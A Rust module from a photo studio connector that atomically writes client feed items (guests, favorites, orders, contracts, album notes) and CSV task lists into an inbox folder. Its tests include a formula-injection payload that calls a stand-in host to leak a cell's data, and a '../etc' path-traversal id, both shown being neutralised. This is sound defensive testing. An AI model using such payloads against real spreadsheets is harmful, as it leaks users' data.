//! The studio's `inbox/`: what clients did, written by the connector only.
//!
//! Every file is written whole — a temporary file beside it, fsync, rename, fsync of the folder —
//! so a crash leaves the old file or the new one, never half of one. Writing the same feed item
//! again writes the same files with the same content: re-fetching after a crash never makes a
//! second copy. `guests.csv` is rebuilt from the guest files, and `tasks.csv` gets a line only
//! when no line with the same task id is in it yet, so lines people add or remove are kept.

use std::fs::{self, File, OpenOptions};
use std::io::{self, Write};
use std::path::{Path, PathBuf};

use proofroom_wire::albums::{AlbumDecision, AlbumFeedback};
use proofroom_wire::contracts::SignedContract;
use proofroom_wire::feed::{
    FavoritesSent, FeedContent, FeedItem, GuestRecord, SessionFavorites, YearbookPick,
};
use proofroom_wire::format_cents;
use proofroom_wire::orders::OrderRecord;
use proofroom_wire::prepaid::PrepaidSelection;
use serde::Serialize;

pub const INBOX: &str = "inbox";

pub struct Inbox {
    root: PathBuf,
}

/// What a feed item brings besides itself, fetched from the server before it is written.
pub enum Fetched {
    Nothing,
    /// A signed contract's PDF.
    SignedPdf(Vec<u8>),
    /// An answered album revision's marked-up pages: (the page's file name, the JPEG).
    PinnedPages(Vec<(String, Vec<u8>)>),
}

/// What writing one feed item put where, relative to the library.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Written {
    Files(Vec<String>),
    /// The item's subject is gone from the server; nothing to write.
    Nothing,
}

impl Inbox {
    pub fn new(library: &Path) -> Self {
        Self { root: library.join(INBOX) }
    }

    /// Removes the temporary files of writes cut short (a connector killed between writing and
    /// renaming). Only call it holding the sync lock: no other writer is at work then.
    pub fn sweep(&self) -> io::Result<usize> {
        let mut removed = 0;
        let mut dirs = vec![self.root.clone()];
        while let Some(dir) = dirs.pop() {
            let entries = match fs::read_dir(&dir) {
                Ok(entries) => entries,
                Err(e) if e.kind() == io::ErrorKind::NotFound => continue,
                Err(e) => return Err(e),
            };
            for entry in entries {
                let entry = entry?;
                let name = entry.file_name();
                let name = name.to_string_lossy();
                if entry.file_type()?.is_dir() {
                    dirs.push(entry.path());
                } else if name.starts_with('.') && name.ends_with(".tmp") {
                    fs::remove_file(entry.path())?;
                    removed += 1;
                }
            }
        }
        Ok(removed)
    }

    /// Writes one feed item into the inbox, with its line in `tasks.csv`. A signed contract
    /// comes with its PDF, an answered album with its pinned pages (`fetched` by the caller);
    /// without them, nothing is written.
    pub fn write(&self, item: &FeedItem, fetched: &Fetched) -> io::Result<Written> {
        if let FeedContent::Gone { .. } = item.content {
            return Ok(Written::Nothing);
        }
        let files = match (&item.content, fetched) {
            (FeedContent::Contract(signed), Fetched::SignedPdf(pdf)) => {
                self.contract(signed, pdf)?
            }
            (FeedContent::Contract(_), _) => {
                return Err(io::Error::other("the signed PDF did not come"));
            }
            (FeedContent::Album(feedback), Fetched::PinnedPages(pages)) => {
                self.album(feedback, pages)?
            }
            (FeedContent::Album(_), _) => {
                return Err(io::Error::other("the pinned pages did not come"));
            }
            (content, _) => self.plain(content)?,
        };
        self.task(item)?;
        Ok(Written::Files(files))
    }

    /// The items that need nothing fetched besides themselves; `Gone` writes nothing.
    fn plain(&self, content: &FeedContent) -> io::Result<Vec<String>> {
        Ok(match content {
            FeedContent::Guest(guest) => self.guest(guest)?,
            FeedContent::Favorites(favorites) => self.favorites(favorites)?,
            FeedContent::FavoritesSent(sent) => self.favorites_sent(sent)?,
            FeedContent::Yearbook(pick) => self.yearbook(pick)?,
            FeedContent::Order(order) => self.order(order)?,
            FeedContent::Prepaid(selection) => self.prepaid(selection)?,
            FeedContent::Contract(_) | FeedContent::Album(_) | FeedContent::Gone { .. } => {
                Vec::new()
            }
        })
    }

    fn guest(&self, guest: &GuestRecord) -> io::Result<Vec<String>> {
        let file = format!("guests/{}.json", safe_name(&guest.guest_id));
        self.put(&file, &json(guest)?)?;
        self.rebuild_guests_csv()?;
        Ok(vec![format!("{INBOX}/{file}"), format!("{INBOX}/guests.csv")])
    }

    /// `guests.csv`: every guest as a new client record, oldest first.
    fn rebuild_guests_csv(&self) -> io::Result<()> {
        let mut guests: Vec<GuestRecord> = Vec::new();
        for entry in fs::read_dir(self.root.join("guests"))? {
            let path = entry?.path();
            if path.extension().is_some_and(|e| e == "json") {
                let bytes = fs::read(&path)?;
                match serde_json::from_slice(&bytes) {
                    Ok(guest) => guests.push(guest),
                    // Someone's edit broke it: leave it out rather than fail every sync.
                    Err(_) => continue,
                }
            }
        }
        guests.sort_by(|a, b| (a.registered_at, &a.guest_id).cmp(&(b.registered_at, &b.guest_id)));
        let mut csv = String::from("guest_id,name,email,session_id,registered_at\n");
        for g in &guests {
            let registered = g.registered_at.format("%Y-%m-%d %H:%M:%S").to_string();
            csv_line(
                &mut csv,
                &[
                    &g.guest_id,
                    &g.name,
                    &g.email,
                    g.session_id.as_deref().unwrap_or(""),
                    &registered,
                ],
            );
        }
        self.put("guests.csv", csv.as_bytes())
    }

    /// `favorites/<session>.txt`: per person, the file names one a line and the same list as
    /// Lightroom's text filter takes it; `favorites/<session>.json` the same with notes.
    fn favorites(&self, favorites: &SessionFavorites) -> io::Result<Vec<String>> {
        let session = safe_name(&favorites.session_id);
        let mut text = format!("# Online favorites of session {}\n", favorites.session_id);
        for person in &favorites.people {
            let names: Vec<&str> = person.favorites.iter().map(|f| f.file_name.as_str()).collect();
            text.push_str(&format!(
                "\n## {} <{}> ({} {}), {} favorites\n",
                person.name,
                person.email,
                person.kind,
                person.id,
                names.len()
            ));
            for name in &names {
                text.push_str(name);
                text.push('\n');
            }
            text.push_str(&format!("Lightroom text filter: {}\n", names.join(", ")));
        }
        let txt = format!("favorites/{session}.txt");
        let detail = format!("favorites/{session}.json");
        self.put(&txt, text.as_bytes())?;
        self.put(&detail, &json(favorites)?)?;
        Ok(vec![format!("{INBOX}/{txt}"), format!("{INBOX}/{detail}")])
    }

    /// `favorites/<session>-sent-<person>.txt` and `.json`: what one person sent when they
    /// said they were done choosing — the file names one a line, and Lightroom's filter.
    fn favorites_sent(&self, sent: &FavoritesSent) -> io::Result<Vec<String>> {
        let stem =
            format!("favorites/{}-sent-{}", safe_name(&sent.session_id), safe_name(&sent.id));
        let names: Vec<&str> = sent.favorites.iter().map(|f| f.file_name.as_str()).collect();
        let mut text = format!(
            "# Favorites {} <{}> sent for session {} on {} UTC: {}{}\n\n",
            sent.name,
            sent.email,
            sent.session_id,
            sent.sent_at.format("%Y-%m-%d %H:%M"),
            names.len(),
            sent.choose.map(|n| format!(" of {n}")).unwrap_or_default(),
        );
        for favorite in &sent.favorites {
            text.push_str(&favorite.file_name);
            if let Some(note) = &favorite.note {
                text.push_str(&format!("    # {}", note.replace('\n', " ")));
            }
            text.push('\n');
        }
        text.push_str(&format!("\nLightroom text filter: {}\n", names.join(", ")));
        let (txt, detail) = (format!("{stem}.txt"), format!("{stem}.json"));
        self.put(&txt, text.as_bytes())?;
        self.put(&detail, &json(sent)?)?;
        Ok(vec![format!("{INBOX}/{txt}"), format!("{INBOX}/{detail}")])
    }

    fn yearbook(&self, pick: &YearbookPick) -> io::Result<Vec<String>> {
        let file = format!("yearbook/{}.json", safe_name(&pick.session_id));
        self.put(&file, &json(pick)?)?;
        Ok(vec![format!("{INBOX}/{file}")])
    }

    /// `orders/<number>.json`: the order whole, its amounts as the library writes money
    /// (`"24.00"`). Written again, whole, when its payment goes through.
    fn order(&self, order: &OrderRecord) -> io::Result<Vec<String>> {
        let file = format!("orders/{}.json", safe_name(&order.number));
        self.put(&file, &json(&InboxOrder::from(order))?)?;
        Ok(vec![format!("{INBOX}/{file}")])
    }

    /// `prepaid/<invoice-id>.json`: the image file picked for each image of each print.
    fn prepaid(&self, selection: &PrepaidSelection) -> io::Result<Vec<String>> {
        let file = format!("prepaid/{}.json", safe_name(&selection.invoice_id));
        let view = serde_json::json!({
            "invoice_id": selection.invoice_id,
            "session_id": selection.session_id,
            "client_id": selection.client_id,
            "client_name": selection.client_name,
            "paid": format_cents(selection.paid_cents),
            "submitted_at": utc(selection.submitted_at),
            "items": selection.items,
        });
        self.put(&file, &json(&view)?)?;
        Ok(vec![format!("{INBOX}/{file}")])
    }

    /// `contracts/<session>/<contract>-signed.pdf` and `<contract>.json` (the evidence). The
    /// PDF goes first: the JSON beside it says the pair is whole.
    fn contract(&self, signed: &SignedContract, pdf: &[u8]) -> io::Result<Vec<String>> {
        let dir = format!("contracts/{}", safe_name(&signed.session_id));
        let name = safe_name(&signed.contract_id);
        let pdf_file = format!("{dir}/{name}-signed.pdf");
        let json_file = format!("{dir}/{name}.json");
        self.put(&pdf_file, pdf)?;
        self.put(&json_file, &json(signed)?)?;
        Ok(vec![format!("{INBOX}/{pdf_file}"), format!("{INBOX}/{json_file}")])
    }

    /// `albums/<session>/<album>-r<N>/<page>.jpg` for each page with notes (drawn with
    /// numbered pins), then `albums/<session>/<album>-r<N>.json`: the JSON beside them says
    /// the set is whole.
    fn album(
        &self,
        feedback: &AlbumFeedback,
        pinned: &[(String, Vec<u8>)],
    ) -> io::Result<Vec<String>> {
        let stem = format!(
            "albums/{}/{}-r{}",
            safe_name(&feedback.session_id),
            safe_name(&feedback.album_id),
            feedback.revision
        );
        let mut files = Vec::new();
        let mut pinned_files = Vec::new();
        for (page, jpeg) in pinned {
            let name = format!("{}.jpg", safe_name(page_stem(page)));
            let file = format!("{stem}/{name}");
            self.put(&file, jpeg)?;
            pinned_files
                .push(serde_json::json!({ "page": page, "file": format!("{INBOX}/{file}") }));
            files.push(format!("{INBOX}/{file}"));
        }
        let mut view = serde_json::to_value(feedback).map_err(io::Error::other)?;
        if let Some(object) = view.as_object_mut() {
            object.insert("pinned_pages".into(), serde_json::Value::Array(pinned_files));
        }
        let json_file = format!("{stem}.json");
        self.put(&json_file, &json(&view)?)?;
        files.push(format!("{INBOX}/{json_file}"));
        Ok(files)
    }

    /// A line in `tasks.csv` for this item, unless one with its task id is there already.
    fn task(&self, item: &FeedItem) -> io::Result<()> {
        let task_id = format!("feed-{}", item.seq);
        let (session, what) = match &item.content {
            FeedContent::Guest(g) => (
                g.session_id.clone().unwrap_or_default(),
                format!("New guest {} <{}>: add as a client", g.name, g.email),
            ),
            FeedContent::Favorites(f) => {
                let count: usize = f.people.iter().map(|p| p.favorites.len()).sum();
                (f.session_id.clone(), format!("Favorites changed: {count} in all"))
            }
            FeedContent::FavoritesSent(f) => (
                f.session_id.clone(),
                format!(
                    "{} sent {} favorites{}: ready to edit (inbox/favorites/{}-sent-{}.txt)",
                    f.name,
                    f.favorites.len(),
                    f.choose.map(|n| format!(" of {n} asked")).unwrap_or_default(),
                    safe_name(&f.session_id),
                    safe_name(&f.id)
                ),
            ),
            FeedContent::Yearbook(y) => (
                y.session_id.clone(),
                format!("Yearbook image picked by {}: {}", y.client_name, y.file_name),
            ),
            FeedContent::Prepaid(p) => (
                p.session_id.clone(),
                format!(
                    "Prepaid package {} picked by {}: {} prints",
                    p.invoice_id,
                    p.client_name,
                    p.items.iter().map(|i| i.quantity.max(0) as i64).sum::<i64>()
                ),
            ),
            FeedContent::Order(o) => (
                o.session_id.clone(),
                format!(
                    "Order {} from {}: {} items, {} {}, {}",
                    o.number,
                    o.customer.name,
                    o.items.iter().map(|i| i.quantity.max(0) as i64).sum::<i64>(),
                    format_cents(o.total_cents),
                    o.currency,
                    o.payment_status.label().to_lowercase()
                ),
            ),
            FeedContent::Contract(c) => (
                c.session_id.clone(),
                format!(
                    "Contract \"{}\" signed by {} on {}: file the signed PDF (inbox/contracts/{}/{}-signed.pdf)",
                    c.title,
                    c.evidence.signer_name,
                    c.evidence.signed_at_local,
                    safe_name(&c.session_id),
                    safe_name(&c.contract_id)
                ),
            ),
            FeedContent::Album(a) => (a.session_id.clone(), album_task(a)),
            FeedContent::Gone { .. } => return Ok(()),
        };
        let at = item.at.format("%Y-%m-%d %H:%M:%S").to_string();
        self.add_task(&task_id, &at, item.content.kind(), &session, &what)
    }

    /// Appends a line to `tasks.csv` unless one with `task_id` is there already.
    pub(crate) fn add_task(
        &self,
        task_id: &str,
        at: &str,
        kind: &str,
        session: &str,
        what: &str,
    ) -> io::Result<()> {
        let path = self.root.join("tasks.csv");
        let existing = match fs::read_to_string(&path) {
            Ok(text) => text,
            Err(e) if e.kind() == io::ErrorKind::NotFound => {
                String::from("task_id,at,kind,session_id,what\n")
            }
            Err(e) => return Err(e),
        };
        let prefix = format!("{task_id},");
        if existing.lines().any(|line| line.starts_with(&prefix)) {
            return Ok(());
        }
        let mut text = existing;
        if !text.is_empty() && !text.ends_with('\n') {
            text.push('\n');
        }
        csv_line(&mut text, &[task_id, at, kind, session, what]);
        self.put("tasks.csv", text.as_bytes())
    }

    /// Writes `relative` under the inbox whole: temporary file, fsync, rename, fsync the folder.
    pub(crate) fn put(&self, relative: &str, bytes: &[u8]) -> io::Result<()> {
        let path = self.root.join(relative);
        let dir = path.parent().unwrap_or(&self.root).to_path_buf();
        fs::create_dir_all(&dir)?;
        let name = path.file_name().and_then(|n| n.to_str()).unwrap_or("file");
        let temporary = dir.join(format!(".{name}.{}.tmp", std::process::id()));
        {
            let mut file =
                OpenOptions::new().write(true).create(true).truncate(true).open(&temporary)?;
            file.write_all(bytes)?;
            file.sync_all()?;
        }
        fs::rename(&temporary, &path)?;
        // The rename itself is only durable once the folder is.
        File::open(&dir)?.sync_all()
    }
}

/// An order as `inbox/orders/<number>.json` holds it: money as the library writes it.
#[derive(Serialize)]
struct InboxOrder<'a> {
    number: &'a str,
    session_id: &'a str,
    session_description: &'a str,
    placed_at: String,
    client: &'a proofroom_wire::orders::OrderCustomer,
    items: Vec<InboxItem<'a>>,
    promotion: Option<&'a str>,
    subtotal: String,
    discount: String,
    shipping: Option<InboxShipping<'a>>,
    taxes: Vec<InboxTax<'a>>,
    /// Every tax of the order, added or contained.
    tax: String,
    total: String,
    currency: &'a str,
    payment_method: &'a str,
    payment_status: &'static str,
    paid_at: Option<String>,
    stripe_payment_id: Option<&'a str>,
    status: &'static str,
}

#[derive(Serialize)]
struct InboxItem<'a> {
    sku: &'a str,
    name: &'a str,
    images: &'a [String],
    quantity: i32,
    unit_price: String,
    total: String,
    taxable: bool,
    /// `print`, `digital` or `digital-all`: files need no production or shipping.
    kind: &'static str,
}

/// One tax rate of an order; `included`: the prices contain it, the total adds nothing for it.
#[derive(Serialize)]
struct InboxTax<'a> {
    name: &'a str,
    percent: String,
    included: bool,
    amount: String,
}

#[derive(Serialize)]
struct InboxShipping<'a> {
    method: &'a str,
    name: &'a str,
    price: String,
    address: Option<&'a str>,
}

/// Basis points as the library writes a percent: `7.25`, `23`.
fn percent(basis_points: i64) -> String {
    let text = format_cents(basis_points);
    text.trim_end_matches('0').trim_end_matches('.').to_string()
}

fn utc(at: chrono::NaiveDateTime) -> String {
    at.format("%Y-%m-%dT%H:%M:%SZ").to_string()
}

impl<'a> From<&'a OrderRecord> for InboxOrder<'a> {
    fn from(o: &'a OrderRecord) -> Self {
        Self {
            number: &o.number,
            session_id: &o.session_id,
            session_description: &o.session_description,
            placed_at: utc(o.placed_at),
            client: &o.customer,
            items: o
                .items
                .iter()
                .map(|i| InboxItem {
                    sku: &i.sku,
                    name: &i.name,
                    images: &i.images,
                    quantity: i.quantity,
                    unit_price: format_cents(i.unit_price_cents),
                    total: format_cents(i.line_cents),
                    taxable: i.taxable,
                    kind: i.kind.as_str(),
                })
                .collect(),
            promotion: o.promotion_code.as_deref(),
            subtotal: format_cents(o.subtotal_cents),
            discount: format_cents(o.discount_cents),
            shipping: o.shipping.as_ref().map(|s| InboxShipping {
                method: &s.method_id,
                name: &s.name,
                price: format_cents(s.price_cents),
                address: s.address.as_deref(),
            }),
            taxes: o
                .taxes
                .iter()
                .map(|t| InboxTax {
                    name: &t.name,
                    percent: percent(t.basis_points),
                    included: t.included,
                    amount: format_cents(t.cents),
                })
                .collect(),
            tax: format_cents(o.tax_cents),
            total: format_cents(o.total_cents),
            currency: &o.currency,
            payment_method: &o.payment_method,
            payment_status: o.payment_status.as_str(),
            paid_at: o.paid_at.map(utc),
            stripe_payment_id: o.stripe_payment_id.as_deref(),
            status: o.status.as_str(),
        }
    }
}

pub(crate) fn json<T: serde::Serialize>(value: &T) -> io::Result<Vec<u8>> {
    let mut bytes = serde_json::to_vec_pretty(value).map_err(io::Error::other)?;
    bytes.push(b'\n');
    Ok(bytes)
}

/// A session or guest id as a file name: ids come from folder names or the server, but a `/`
/// or a leading dot must never reach outside the inbox folder.
pub(crate) fn safe_name(id: &str) -> String {
    let cleaned: String =
        id.chars().map(|c| if c == '/' || c == '\\' || c.is_control() { '_' } else { c }).collect();
    match cleaned.strip_prefix('.') {
        Some(rest) => format!("_{rest}"),
        None => cleaned,
    }
}

/// Appends one CSV record (RFC 4180: fields with a comma, quote or line break are quoted).
/// Every CSV the connector writes goes through here. A field a spreadsheet would read as a
/// formula — starting with `= + - @`, a tab or a carriage return: a guest can name themself
/// `=HYPERLINK(…)` — is made inert text by OWASP's rule: a leading `'`, and quoted.
pub(crate) fn csv_line(out: &mut String, fields: &[&str]) {
    for (i, field) in fields.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        let formula = field.starts_with(['=', '+', '-', '@', '\t', '\r']);
        if formula || field.contains([',', '"', '\n', '\r']) {
            out.push('"');
            if formula {
                out.push('\'');
            }
            out.push_str(&field.replace('"', "\"\""));
            out.push('"');
        } else {
            out.push_str(field);
        }
    }
    out.push('\n');
}

/// A page file's name without its extension: `007.png` is drawn as `007.jpg`.
fn page_stem(name: &str) -> &str {
    match name.rsplit_once('.') {
        Some((stem, _)) if !stem.is_empty() => stem,
        _ => name,
    }
}

/// What an answered album revision asks of the studio, in one line.
fn album_task(a: &AlbumFeedback) -> String {
    let notes: usize = a.pages.iter().map(|p| p.notes.len()).sum();
    let file = format!(
        "inbox/albums/{}/{}-r{}.json",
        safe_name(&a.session_id),
        safe_name(&a.album_id),
        a.revision
    );
    let title = if a.description.is_empty() { a.album_id.clone() } else { a.description.clone() };
    match a.decision {
        AlbumDecision::Approved => format!(
            "Album \"{title}\" revision {} approved by {}: ready for print ({file})",
            a.revision,
            a.approved_name.as_deref().unwrap_or(&a.client_name)
        ),
        AlbumDecision::Comments => format!(
            "Album \"{title}\" revision {}: {} sent {notes} notes on {} pages{} — make revision {} ({file})",
            a.revision,
            a.client_name,
            a.pages.iter().filter(|p| !p.notes.is_empty() || p.comment.is_some()).count(),
            if a.general_comment.is_some() { " and a general comment" } else { "" },
            a.revision + 1
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_fields_with_commas_and_quotes_are_quoted() {
        let mut out = String::new();
        csv_line(&mut out, &["a", "Smith, Ann", "say \"hi\"", "x\ny"]);
        assert_eq!(out, "a,\"Smith, Ann\",\"say \"\"hi\"\"\",\"x\ny\"\n");
    }

    #[test]
    fn cells_a_spreadsheet_would_run_as_formulas_are_inert() {
        let mut out = String::new();
        let link = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Open\")";
        csv_line(
            &mut out,
            &[link, "+1", "-2+3", "@SUM(A1)", "\tx", "\r=1", "Ann", "a=b", "2026-04-12"],
        );
        assert_eq!(
            out,
            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"Open\"\")\",\"'+1\",\"'-2+3\",\
             \"'@SUM(A1)\",\"'\tx\",\"'\r=1\",Ann,a=b,2026-04-12\n"
        );
    }

    #[test]
    fn ids_cannot_leave_the_inbox() {
        assert_eq!(safe_name("../etc"), "_._etc");
        assert_eq!(safe_name("2026-0412 Smith"), "2026-0412 Smith");
    }
}
